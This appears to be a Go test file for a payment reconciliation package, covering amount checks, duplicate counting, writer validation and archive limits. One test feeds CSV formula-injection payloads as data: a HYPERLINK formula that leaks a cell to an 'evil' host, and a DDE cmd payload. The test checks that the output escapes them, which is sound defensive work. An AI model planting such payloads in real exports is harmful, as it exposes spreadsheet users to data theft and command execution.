package reconcile

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// TestCheckGrossAmounts: a report whose transaction amounts differ from the records by equal
// sums on both sides (300.00 paid and 100.00 refunded, against 250.00 and 50.00: same count, same
// net) is a mismatch. Check used to compare credit minus debit only. Found in the third session's
// review.
func TestCheckGrossAmounts(t *testing.T) {
	var tally Tally
	tally.Add(&Record{TxnType: "01", PayCardType: "01", TxnAmt: 25000, SettleAmt: 25000})
	tally.Add(&Record{TxnType: "04", PayCardType: "01", TxnAmt: 5000, SettleAmt: -5000})
	rd := &Summary{Total: SummaryRow{Label: "总计", Count: 2, TxnCredit: 30000, TxnDebit: 10000, NetCredit: 30000, NetDebit: 10000}}
	rd.ByTxnType = []SummaryRow{rd.Total}
	err := rd.Check(&tally)
	require.ErrorIs(t, err, ErrMismatch)
	var me *MismatchError
	require.ErrorAs(t, err, &me)
	require.Contains(t, me.Diffs, Diff{Row: rdTotal, Column: "txn-gross", Want: 40000, Got: 30000})
}

// TestCSVTextCellsAreNotFormulas: orderIds and other text from the file or the merchant that a
// spreadsheet would run as a formula are written with a leading apostrophe; amounts, negative
// ones included, are left alone. Found in the third session's review.
func TestCSVTextCellsAreNotFormulas(t *testing.T) {
	recs := func(yield func(Record, error) bool) {
		yield(Record{Line: 1, OrderID: `=HYPERLINK("http://evil/?"&A1,"x")`, QueryID: "+1+1", OrigQueryID: "@SUM(1)",
			TxnType: "-2+3", TxnAmt: 1, MerchantFee: -5, TxnTime: time.Date(2025, 1, 1, 0, 0, 0, 0, Beijing())}, nil)
	}
	orders := func(yield func(Order, error) bool) {
		yield(Order{State: StateSucceeded, OrderID: "=cmd|' /C calc'!A0", Amount: 5}, nil)
	}
	var buf bytes.Buffer
	_, err := WriteCSV(&buf, Match(recs, orders))
	require.NoError(t, err)
	out := buf.String()
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err)
	for _, row := range rows {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) ||
				strings.HasPrefix(cell, "-") && csvHeader[i] != "fee_fen" && csvHeader[i] != "net_fen" {
				t.Errorf("column %s: %q would be a formula", csvHeader[i], cell)
			}
		}
	}
	require.Contains(t, out, `'=HYPERLINK`)
	require.Contains(t, out, ",-5,")
}

// TestReportDuplicateCountsOrderOnce: a second record for an order already matched is a
// Duplicate whose Order is that same order: its amount is not counted again. (Found in the
// third session's review: summed over classes, one 100 order read 200.)
func TestReportDuplicateCountsOrderOnce(t *testing.T) {
	var rep Report
	o := Order{State: StateSucceeded, OrderID: "ORDER0001", Amount: 100}
	rep.Add(Result{Class: Matched, Record: Record{OrderID: "ORDER0001", TxnAmt: 100}, Order: o})
	rep.Add(Result{Class: Duplicate, Record: Record{OrderID: "ORDER0001", TxnAmt: 100}, Order: o})
	var orders int64
	for _, tot := range rep.Totals {
		orders += tot.OrderAmount
	}
	require.Equal(t, int64(100), orders)
	require.Equal(t, int64(100), rep.Totals[Duplicate].Amount, "the duplicate record's own amount still counts")
}

// TestWriterRefusesLineBreaks: a text value holding CR or LF would end the line early and write
// a file that reads back as malformed lines: it is refused, naming the field.
func TestWriterRefusesLineBreaks(t *testing.T) {
	var buf bytes.Buffer
	zw := NewZMWriter(&buf)
	rec := Record{TxnCode: "S22", TxnTime: time.Date(2025, 1, 1, 0, 0, 0, 0, Beijing()), TxnAmt: 1, OrderID: "ORDER0001", MerReserved: "x\ny"}
	err := zw.Write(&rec)
	require.ErrorContains(t, err, "merReserved")
	require.NoError(t, zw.Flush())
	require.Zero(t, buf.Len(), "nothing written")
}

// TestOpenRefusesNonPositiveLimits: a limit of zero or less (a negative WithMaxMemberSize used to
// turn the size limit off) is a configuration error.
func TestOpenRefusesNonPositiveLimits(t *testing.T) {
	for _, opt := range []Option{WithMaxMembers(0), WithMaxMemberSize(-1), WithMaxTotalSize(0), WithMaxRatio(-5)} {
		_, err := Open(nil, opt)
		require.ErrorContains(t, err, "limits must be positive")
	}
}
